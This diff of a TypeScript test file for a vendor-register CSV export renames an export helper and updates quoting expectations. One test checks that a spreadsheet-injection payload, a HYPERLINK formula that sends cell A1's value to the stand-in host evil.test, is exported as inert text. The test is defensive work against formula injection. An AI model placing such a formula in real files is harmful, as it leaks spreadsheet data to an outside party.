@@ -2,7 +2,7 @@ import fc from 'fast-check'
 import { beforeAll, expect, test } from 'vitest'
 import { runSql } from '../../../platform/server/database.ts'
 import { cadenceDays, criticalities, dataSubjects, tiers, vendorRoles } from '../vocabulary.ts'
-import { csvOf } from './export-csv.ts'
+import { vendorsCsv } from './export-csv.ts'
 import { listExportedVendors } from './list.ts'
 import { readVendorCsv } from './read-csv.ts'
 import { bodyOf, createRegister, type Register } from './register.fixture.ts'
@@ -120,9 +120,9 @@ test('a formula stays text, in the register and in a file that leaves', async ()
   expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8')
   expect(file.headers.get('content-disposition')).toBe('attachment; filename="vendors-2026-11-21.csv"')
   const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(file.body as Uint8Array)
-  expect(text.startsWith('\ufeffvendor_name,')).toBe(true)
+  expect(text.startsWith('\ufeff"vendor_name",')).toBe(true)
   expect(text).toContain(`"'=HYPERLINK(""https://evil.test?x=""&A1)"`)
-  expect(text).toContain(",'+1,")
+  expect(text).toContain(`,"'+1",`)
 })
 
 test('what seems to be there already is marked, and left unless somebody wants it', async () => {
@@ -250,7 +250,7 @@ test('an exported register is read again as the same vendors', async () => {
         const filters = { q: '', archived: 'no' } as const
         return listExportedVendors(tx, { organisationId: own.id, today: '2026-11-21', filters })
       })
-      const { rows, ignoredColumns } = readVendorCsv(csvOf(exported))
+      const { rows, ignoredColumns } = readVendorCsv(vendorsCsv(exported))
       expect(ignoredColumns).toEqual([])
       const read = rows.map(({ vendor: one, errors }) => ({ errors, ...emptyFields, ...one }))
       const sorted = (list: { vendorName: string }[]) =>
